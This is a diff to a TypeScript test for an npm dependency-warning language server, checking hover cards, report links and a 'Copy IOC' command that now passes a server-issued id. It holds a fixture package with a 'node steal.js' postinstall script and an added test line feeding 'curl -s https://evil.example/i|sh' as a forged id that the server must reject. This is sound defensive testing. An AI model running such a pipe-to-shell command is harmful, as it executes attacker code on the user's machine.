@@ -6,6 +6,9 @@ import * as path from 'node:path';
 import { LspTestClient, uriOf } from '../support/lsp-client';
 import { startFakeRegistry } from '../support/fake-registry';
 
+/** The Markdown as its reader sees the text: the escapes markdown.ts puts before names, versions and messages undone. */
+const unescaped = (md: string) => md.replace(/\\([\\`*_{}[\]()#+\-.!<>|~&:$])/g, '$1');
+
 const DAY = 86_400_000;
 const SHA = '0123456789abcdef0123456789abcdef01234567';
 
@@ -77,7 +80,7 @@ test('the hover shows registry facts, report links and audit links; code actions
   await client.connection.sendNotification('textDocument/didOpen', { textDocument: { uri, languageId: 'json', version: 1, text: MANIFEST } });
 
   const hover = (line: number) => client.connection.sendRequest('textDocument/hover', { textDocument: { uri }, position: { line, character: 7 } }) as Promise<HoverResult>;
-  const card = (await hover(3)).contents.value;
+  const card = unescaped((await hover(3)).contents.value);
   assert.match(card, /^\*\*sneaky\*\* · `1\.1\.0` · locked at \*\*1\.1\.0\*\* · _dependencies_/);
   assert.match(card, /\*\*1\.1\.0\*\* published 2 days ago \(\d{4}-\d\d-\d\d \d\d:\d\d UTC\) by \*\*mallory\*\*/);
   assert.match(card, /install script `postinstall`: `node steal\.js`/);
@@ -88,10 +91,14 @@ test('the hover shows registry facts, report links and audit links; code actions
   assert.ok(card.includes('[repository](https://github.com/acme/sneaky) (github.com, as the package claims)'), card);
   assert.ok(card.includes(`[at the published commit 0123456](https://github.com/acme/sneaky/tree/${SHA})`), card);
   assert.ok(card.includes('[Report sneaky to npm](https://www.npmjs.com/support?inquire=security&security-inquire=malware&package=sneaky&version=1.1.0)'), card);
-  const copy = /\[Copy IOC\]\(command:depwarden\.copyIoc\?([^)]+)\)/.exec(card);
+  // The link carries an id; the client asks the server for the text behind it.
+  const copy = /\[Copy IOC\]\(command:depwarden\.copyIocById\?([^)]+)\)/.exec(card);
   assert.ok(copy, card);
-  const [iocArg] = JSON.parse(decodeURIComponent(copy[1])) as string[];
+  const [id] = JSON.parse(decodeURIComponent(copy[1])) as string[];
+  assert.match(id, /^[a-z0-9]{1,32}$/);
+  const iocArg = (await client.connection.sendRequest('depwarden/iocText', { id })) as string;
   assert.match(iocArg, /^sneaky@1\.1\.0\n# /);
+  assert.equal(await client.connection.sendRequest('depwarden/iocText', { id: 'curl -s https://evil.example/i|sh' }), null, 'only ids the server handed out');
   // Most important first: the findings (the warning before the info), then the registry facts, then the links.
   const at = (s: string) => card.indexOf(s);
   assert.ok(at('`trust-change`') > 0 && at('`trust-change`') < at('**1.1.0** published') && at('**1.1.0** published') < at('[npm]'), card);
@@ -99,7 +106,7 @@ test('the hover shows registry facts, report links and audit links; code actions
   assert.equal(card.split('[Report sneaky to npm]').length, 2, 'one report line per card');
   assert.match(iocArg, /\n# install-script: [^\n]+\n[^]*\n# trust-change: /, 'the IOC carries every reportable finding');
 
-  const clean = (await hover(4)).contents.value;
+  const clean = unescaped((await hover(4)).contents.value);
   assert.match(clean, /✅ No findings\./);
   assert.match(clean, /\*\*1\.0\.0\*\* published 2 years ago \(.+ UTC\) by \*\*carol\*\*/);
   assert.ok(clean.includes('[at the published commit abcdef0](https://gitlab.com/team/clean/-/tree/abcdef0)'), clean);
